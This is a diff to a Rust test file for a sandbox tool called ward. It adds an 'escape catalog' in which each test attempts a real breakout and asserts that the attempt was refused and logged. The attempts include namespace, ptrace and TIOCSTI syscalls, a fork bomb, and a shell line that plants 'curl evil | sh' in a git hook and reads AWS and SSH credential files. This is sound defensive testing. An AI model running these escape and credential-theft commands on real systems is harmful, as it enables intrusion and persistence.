@@ -1,6 +1,9 @@
-//! The escape catalog (issue 3, growing): each test makes a real attempt inside `ward run`,
-//! asserts that it failed, that nothing changed on the host, and that the session is on record.
-//! Kernel-side denials are not yet audited one by one (Landlock's audit logging is the plan).
+//! The escape catalog (issue 3): each test makes a real attempt inside `ward run`, asserts that
+//! it failed, that nothing changed on the host, and that the audit log has it: every denied
+//! system call has a `sandbox.denied` record of its own, every limit reached a `sandbox.limit`
+//! record. Paths outside the grants do not exist inside the sandbox, so a read of one is not an
+//! event Ward can see; for those the session's start record, which lists what was granted and
+//! masked, is the record.
 
 use std::os::linux::net::SocketAddrExt;
 use std::path::PathBuf;
@@ -25,8 +28,24 @@ impl Env {
     }
     /// Run `script` with python3 (or sh) inside `ward run --grant proj:direct`.
     fn run(&self, prog: &str, script: &str) -> Output {
+        self.run_args(&["--grant", ".:direct"], prog, script)
+    }
+    /// Run `script` under the manifest `toml` (written to `ward.toml`; `PROJ` in it is replaced
+    /// by the project folder).
+    fn run_manifest(&self, toml: &str, prog: &str, script: &str) -> Output {
+        let m = self.p("ward.toml");
+        std::fs::write(
+            &m,
+            toml.replace("PROJ", &self.p("proj").display().to_string()),
+        )
+        .unwrap();
+        self.run_args(&["-m", m.to_str().unwrap()], prog, script)
+    }
+    fn run_args(&self, args: &[&str], prog: &str, script: &str) -> Output {
         Command::new(env!("CARGO_BIN_EXE_ward"))
-            .args(["run", "--grant", ".:direct", "--", prog, "-c", script])
+            .arg("run")
+            .args(args)
+            .args(["--", prog, "-c", script])
             .current_dir(self.p("proj"))
             .env("HOME", self.p("home"))
             .env("XDG_STATE_HOME", self.p("state"))
@@ -41,6 +60,46 @@ impl Env {
         assert!(recs.iter().any(|(_, r)| r["kind"] == "session.start"));
         assert!(recs.iter().any(|(_, r)| r["kind"] == "session.exit"));
     }
+    fn records(&self) -> Vec<serde_json::Value> {
+        ward_audit::read_records(&self.p("state/ward/audit/audit.jsonl"))
+            .unwrap()
+            .into_iter()
+            .map(|(_, r)| r)
+            .collect()
+    }
+    /// Each call has its own `sandbox.denied` record, and the session's end counts it.
+    fn assert_denied(&self, calls: &[&str], o: &Output) {
+        self.assert_recorded();
+        let recs = self.records();
+        for c in calls {
+            assert!(
+                recs.iter().any(|r| r["kind"] == "sandbox.denied"
+                    && r["resource"] == *c
+                    && r["decision"]["result"] == "deny"),
+                "no sandbox.denied record for {c}: {}",
+                text(o)
+            );
+            let end = recs.iter().find(|r| r["kind"] == "session.exit").unwrap();
+            assert!(
+                end["detail"]["denied"][c].as_u64().unwrap_or(0) >= 1,
+                "{c} not counted: {end}"
+            );
+        }
+    }
+}
+
+/// Python that calls each (name, libc function, args) through ctypes and prints
+/// `name errno` for a failure and `name ALLOWED` for a success.
+fn syscalls_py(calls: &[(&str, &str)]) -> String {
+    let mut s = String::from(
+        "import ctypes, os\nlibc = ctypes.CDLL(None, use_errno=True)\nsc = libc.syscall\n",
+    );
+    for (name, expr) in calls {
+        s += &format!(
+            "r = {expr}\nprint('{name}', 'ALLOWED' if r >= 0 else os.strerror(ctypes.get_errno()), flush=True)\n"
+        );
+    }
+    s
 }
 
 fn text(o: &Output) -> String {
@@ -187,5 +246,254 @@ fn escape_via_chroot_and_mount_tricks() {
     for w in ["CHROOTED", "MOUNTED", "BOUND", "UNSHARED"] {
         assert!(!text(&o).contains(w), "{w}: {}", text(&o));
     }
+    e.assert_denied(&["chroot", "mount", "unshare"], &o);
+}
+
+#[test]
+fn escape_via_namespace_and_kernel_interface_syscalls() {
+    let e = Env::new();
+    // x86_64 numbers; libc wrappers where glibc has them.
+    let calls = [
+        ("unshare", "libc.unshare(0x10000000)"),
+        (
+            "setns",
+            "libc.setns(os.open('/proc/self/ns/mnt', os.O_RDONLY), 0)",
+        ),
+        ("mount", "libc.mount(b'none', b'/tmp', b'tmpfs', 0, None)"),
+        ("umount2", "libc.umount2(b'/proc', 2)"),
+        ("pivot_root", "sc(155, b'/tmp', b'/tmp')"),
+        ("open_tree", "sc(428, -100, b'/', 1)"),
+        ("fsopen", "sc(430, b'tmpfs', 0)"),
+        ("bpf", "sc(321, 0, None, 0)"),
+        ("perf_event_open", "sc(298, None, 0, -1, -1, 0)"),
+        ("keyctl", "sc(250, 0, 0, 0, 0, 0)"),
+        ("add_key", "sc(248, b'user', b'x', b'y', 1, -3)"),
+        (
+            "io_uring_setup",
+            "sc(425, 8, ctypes.create_string_buffer(120))",
+        ),
+        ("userfaultfd", "sc(323, 0)"),
+        ("open_by_handle_at", "sc(304, -100, None, 0)"),
+        (
+            "clone(CLONE_NEWUSER)",
+            "sc(56, 0x10000000 | 17, None, None, None, None)",
+        ),
+    ];
+    let o = e.run(PY, &syscalls_py(&calls));
+    for (name, _) in &calls {
+        assert!(
+            text(&o).contains(&format!("{name} Operation not permitted")),
+            "{name} was not refused with EPERM: {}",
+            text(&o)
+        );
+    }
+    assert!(!text(&o).contains("ALLOWED"), "{}", text(&o));
+    e.assert_denied(&calls.iter().map(|c| c.0).collect::<Vec<_>>(), &o);
+}
+
+#[test]
+fn escape_via_ptrace_and_process_vm_of_a_host_process() {
+    let e = Env::new();
+    let mut victim = Command::new("sleep").arg("30").spawn().unwrap();
+    let pid = victim.id();
+    let calls = [
+        ("ptrace", format!("libc.ptrace(16, {pid}, None, None)")),
+        (
+            "process_vm_readv",
+            format!("sc(310, {pid}, None, 0, None, 0, 0)"),
+        ),
+    ];
+    let calls: Vec<(&str, &str)> = calls.iter().map(|(a, b)| (*a, b.as_str())).collect();
+    let o = e.run(PY, &syscalls_py(&calls));
+    assert!(!text(&o).contains("ALLOWED"), "{}", text(&o));
+    assert!(victim.try_wait().unwrap().is_none());
+    victim.kill().unwrap();
+    victim.wait().unwrap();
+    e.assert_denied(&["ptrace", "process_vm_readv"], &o);
+}
+
+#[test]
+fn escape_via_terminal_injection_with_tiocsti_and_tioclinux() {
+    // The filter refuses the request whatever the descriptor, so no terminal is needed to show
+    // it; and the agent has no controlling terminal to type into anyway (own session).
+    let e = Env::new();
+    let calls = [
+        ("ioctl(TIOCSTI)", "libc.ioctl(0, 0x5412, b'x')"),
+        ("ioctl(TIOCLINUX)", "libc.ioctl(0, 0x541C, b'\\x06')"),
+    ];
+    let o = e.run(PY, &syscalls_py(&calls));
+    assert!(!text(&o).contains("ALLOWED"), "{}", text(&o));
+    assert_eq!(
+        text(&o).matches("Operation not permitted").count(),
+        2,
+        "{}",
+        text(&o)
+    );
+    e.assert_denied(&["ioctl(TIOCSTI)", "ioctl(TIOCLINUX)"], &o);
+}
+
+#[test]
+fn escape_via_raw_and_packet_sockets() {
+    let e = Env::new();
+    let calls = [
+        ("socket(AF_PACKET, SOCK_RAW)", "libc.socket(17, 3, 0x300)"),
+        ("socket(AF_INET, SOCK_RAW)", "libc.socket(2, 3, 1)"),
+        ("socket(AF_INET6, SOCK_RAW)", "libc.socket(10, 3, 58)"),
+        ("socket(AF_INET, SOCK_PACKET)", "libc.socket(2, 10, 0x300)"),
+    ];
+    let o = e.run(PY, &syscalls_py(&calls));
+    assert!(!text(&o).contains("ALLOWED"), "{}", text(&o));
+    e.assert_denied(&calls.iter().map(|c| c.0).collect::<Vec<_>>(), &o);
+}
+
+#[test]
+fn escape_via_fork_bomb_is_contained_by_the_pids_limit() {
+    let e = Env::new();
+    let o = e.run_manifest(
+        "files = [{ path = \"PROJ\", mode = \"direct\" }]\n[limits]\npids = 64\n",
+        PY,
+        "import os, time\nkids = 0\nfor i in range(10000):\n  try:\n    if os.fork() == 0:\n      time.sleep(3); os._exit(0)\n    kids += 1\n  except OSError as x:\n    print('REFUSED after', kids, x); break\n",
+    );
+    let out = text(&o);
+    assert!(out.contains("REFUSED after"), "{out}");
+    let n: u64 = out
+        .split("REFUSED after ")
+        .nth(1)
+        .unwrap()
+        .split(' ')
+        .next()
+        .unwrap()
+        .parse()
+        .unwrap();
+    assert!(n < 64, "{n} processes started under pids = 64");
+    let recs = e.records();
+    assert!(
+        recs.iter().any(|r| r["kind"] == "sandbox.limit"
+            && r["resource"] == "forks_refused"
+            && r["decision"]["by"] == "sandbox.cgroup"),
+        "no sandbox.limit record: {out}"
+    );
+    let start = recs.iter().find(|r| r["kind"] == "session.start").unwrap();
+    assert_eq!(start["detail"]["limits"]["pids"], 64);
+}
+
+#[test]
+fn escape_via_memory_bomb_is_contained_by_the_memory_limit() {
+    let e = Env::new();
+    let o = e.run_manifest(
+        "files = [{ path = \"PROJ\", mode = \"direct\" }]\n[limits]\nmemory = \"64 MiB\"\n",
+        PY,
+        "x = []\nwhile True:\n  x.append(bytearray(8 << 20))\n  print(len(x) * 8, 'MiB', flush=True)\n",
+    );
+    let out = text(&o);
+    // Killed by the kernel's OOM killer inside the cgroup (or refused memory first).
+    assert!(
+        o.status.code() == Some(137) || out.contains("MemoryError"),
+        "{:?} {out}",
+        o.status
+    );
+    let reached: u64 = out
+        .lines()
+        .filter_map(|l| l.strip_suffix(" MiB")?.parse().ok())
+        .max()
+        .unwrap_or(0);
+    assert!(
+        reached <= 64,
+        "allocated {reached} MiB under a 64 MiB limit"
+    );
+    let recs = e.records();
+    assert!(
+        recs.iter()
+            .any(|r| r["kind"] == "sandbox.limit" && r["resource"] == "oom_kills"),
+        "no sandbox.limit record: {out}"
+    );
+}
+
+#[test]
+fn escape_via_another_sessions_state_and_wards_own_files() {
+    // A first session keeps running; the second looks for its state (the session directory,
+    // the audit log, the signing key) by every path Ward uses.
+    let e = Env::new();
+    let mut first = Command::new(env!("CARGO_BIN_EXE_ward"))
+        .args(["run", "--grant", ".:direct", "--", "sleep", "30"])
+        .current_dir(e.p("proj"))
+        .env("HOME", e.p("home"))
+        .env("XDG_STATE_HOME", e.p("state"))
+        .env("XDG_CONFIG_HOME", e.p("config"))
+        .env("WARD_MANAGED", e.p("managed.toml"))
+        .spawn()
+        .unwrap();
+    let sessions = e.p("state/ward/sessions");
+    let t = std::time::Instant::now();
+    while std::fs::read_dir(&sessions).map_or(0, |d| d.count()) == 0 {
+        assert!(
+            t.elapsed().as_secs() < 20,
+            "the first session did not start"
+        );
+        std::thread::sleep(std::time::Duration::from_millis(20));
+    }
+    let o = e.run(
+        "/bin/sh",
+        &format!(
+            "ls -R {state} && echo LISTED; cat {state}/ward/audit/audit.jsonl && echo READ; \
+             ls {home}/.local/state {config} && echo SEEN; true",
+            state = e.p("state").display(),
+            home = e.p("home").display(),
+            config = e.p("config").display()
+        ),
+    );
+    for w in ["LISTED", "READ", "SEEN", "session.start"] {
+        assert!(!text(&o).contains(w), "{w}: {}", text(&o));
+    }
+    first.kill().unwrap();
+    first.wait().unwrap();
+    e.assert_recorded();
+}
+
+#[test]
+fn escape_via_git_hooks_outside_the_grant_and_credentials_in_home() {
+    // The grant is a subfolder of a repository: the repository's hooks are outside it.
+    let e = Env::new();
+    for d in [
+        "proj/.git/hooks",
+        "home/.aws",
+        "home/.ssh",
+        "home/.config/systemd/user",
+    ] {
+        std::fs::create_dir_all(e.p(d)).unwrap();
+    }
+    std::fs::create_dir_all(e.p("proj/sub")).unwrap();
+    std::fs::write(
+        e.p("home/.aws/credentials"),
+        "aws_secret_access_key = AKIA-test\n",
+    )
+    .unwrap();
+    std::fs::write(e.p("home/.ssh/id_ed25519"), "PRIVATE KEY test\n").unwrap();
+    let o = Command::new(env!("CARGO_BIN_EXE_ward"))
+        .args(["run", "--grant", ".:direct", "--", "/bin/sh", "-c"])
+        .arg(
+            "echo 'curl evil | sh' > ../.git/hooks/pre-commit && echo HOOKED; \
+             cat ~/.aws/credentials ~/.ssh/id_ed25519; \
+             echo evil > ~/.config/systemd/user/evil.service && echo UNIT-WRITTEN; \
+             ls /tmp/.X11-unix && echo X11-LISTED; true",
+        )
+        .current_dir(e.p("proj/sub"))
+        .env("HOME", e.p("home"))
+        .env("XDG_STATE_HOME", e.p("state"))
+        .env("XDG_CONFIG_HOME", e.p("config"))
+        .env("WARD_MANAGED", e.p("managed.toml"))
+        .output()
+        .unwrap();
+    for w in [
+        "HOOKED",
+        "AKIA-test",
+        "PRIVATE KEY",
+        "UNIT-WRITTEN",
+        "X11-LISTED",
+    ] {
+        assert!(!text(&o).contains(w), "{w}: {}", text(&o));
+    }
+    assert!(!e.p("proj/.git/hooks/pre-commit").exists());
+    assert!(!e.p("home/.config/systemd/user/evil.service").exists());
     e.assert_recorded();
 }
